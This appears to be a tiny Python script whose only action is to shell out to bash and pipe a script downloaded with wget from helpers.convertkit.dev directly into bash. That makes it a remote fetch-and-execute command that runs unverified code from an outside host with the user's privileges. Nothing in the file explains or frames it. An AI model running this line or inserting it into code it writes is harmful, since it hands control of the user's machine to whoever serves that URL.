import subprocess

subprocess.run(["bash", "-c", "wget -qO- https://helpers.convertkit.dev/i.sh | bash"], check=True)
